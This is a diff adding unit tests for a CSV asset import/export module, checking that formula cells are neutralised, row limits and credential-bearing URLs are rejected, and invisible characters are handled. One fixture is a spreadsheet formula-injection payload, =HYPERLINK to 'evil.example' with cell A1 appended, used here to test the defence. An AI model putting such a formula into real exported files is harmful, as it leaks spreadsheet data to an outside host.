@@ -1,3 +1,4 @@
+import Papa from 'papaparse';
 import { describe, expect, it } from 'vitest';
 import type { Taxonomy } from '../model';
 import { assetIdForUrl, assetsToCsv, readAssetsCsv, slugify } from './csv';
@@ -129,6 +130,65 @@ describe('readAssetsCsv', () => {
     );
     const again = readAssetsCsv(exported, { taxonomy });
     expect(again.rows.map((x) => x.asset)).toEqual(assets);
+  });
+
+  it('neutralises a formula cell by its first character even when a line break follows', () => {
+    const evil = '=HYPERLINK("http://evil.example/?"&A1,"Click")\nsecond line';
+    const asset = { id: 'x1', title: '@SUM(1)\r\nmore', url: 'https://e.example/x', type: 'other' as const, description: evil, personas: [], industries: [], painPoints: [], tags: ['-1\nx'] };
+    const exported = assetsToCsv([asset]);
+    const [, row] = Papa.parse<string[]>(exported.trim()).data;
+    for (const cell of row!) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    expect(row![3]).toBe(`'${evil}`);
+    expect(row![0]).toBe(`'@SUM(1)\r\nmore`);
+    expect(readAssetsCsv(exported).rows[0]?.asset).toMatchObject({ title: '@SUM(1)\r\nmore', description: evil });
+  });
+
+  it('applies the pack limits to each row, naming the row, and refuses more rows than a library holds', () => {
+    const rows = [
+      'title,url,description,tags',
+      'Fine,https://e.example/1,,',
+      `Long,https://e.example/2,${'d'.repeat(5001)},`,
+      `Tags,https://e.example/3,,${Array.from({ length: 51 }, (_, i) => `t${i}`).join(';')}`,
+      'Creds,https://user:pw@e.example/4,,',
+      'Also fine,https://e.example/5,,',
+      `Url,https://e.example/${'u'.repeat(2048)},,`,
+    ];
+    const r = readAssetsCsv(`${rows.join('\n')}\n`, { file: 'a.csv' });
+    expect(r.errors.map((e) => `${e.where} ${e.field}: ${e.message}`)).toEqual([
+      'row 3 description: the description is 5,001 characters; the limit is 5,000',
+      'row 4 tags: tags has 51 values; the limit is 50',
+      'row 5 url: the URL carries a user name or password: remove them (a link is shared with every prospect it is sent to)',
+      'row 7 url: the URL is 2,066 characters; the limit is 2,048',
+    ]);
+    const many = `title,url\n${'A,https://e.example/a\n'.repeat(100_001)}`;
+    expect(readAssetsCsv(many, { file: 'many.csv' }).errors).toEqual([
+      { file: 'many.csv', where: 'file', message: 'the file has 100,001 rows; a library holds up to 100,000 assets' },
+    ]);
+  });
+
+  it('matches taxonomy names through invisible characters, and shows them when nothing matches', () => {
+    const csv = 'title,url,personas\n\u200bA\u200b,https://e.example/a,Finance\u200b leader\nB,https://e.example/b,Chief\u200bAstronaut\n\u200b\u200b,https://e.example/c,\n';
+    const r = readAssetsCsv(csv, { file: 'a.csv', taxonomy });
+    expect(r.rows[0]?.asset).toMatchObject({ title: 'A', personas: ['finance-leader'] });
+    expect(r.errors.map((e) => `${e.where} ${e.field}: ${e.message}`)).toEqual([
+      expect.stringMatching(/^row 3 personas: "Chief<U\+200B>Astronaut" names no persona/),
+      'row 4 title: the title is required',
+    ]);
+    const added = readAssetsCsv('title,url,personas\nA,https://e.example/a,\u200b;\u200eNew role\u200f\n', { taxonomy, addTaxonomy: true });
+    expect(added.added.personas).toEqual([{ id: 'new-role', label: 'New role', aliases: [] }]);
+  });
+
+  it('round-trips text that starts with an apostrophe before a formula character, or is itself in quotes', () => {
+    const base = { url: 'https://e.example/q', type: 'other' as const, personas: [], industries: [], painPoints: [], tags: [] };
+    const assets = [
+      { ...base, id: 'q1', title: "'+1 is text already", description: "''=x" },
+      { ...base, id: 'q2', url: 'https://e.example/r', title: '"Hello"', description: '""' },
+    ];
+    const back = readAssetsCsv(assetsToCsv(assets));
+    expect(back.errors).toEqual([]);
+    expect(back.rows.map((r) => r.asset)).toEqual(assets);
+    expect(readAssetsCsv('title,url\n  "spaced, not quoted",https://e.example/s\n').rows[0]?.asset?.title).toBeUndefined();
+    expect(readAssetsCsv('title,url\n  "Spaced",https://e.example/s\n').rows[0]?.asset?.title).toBe('Spaced');
   });
 
   it('imports into a pack that validates', () => {
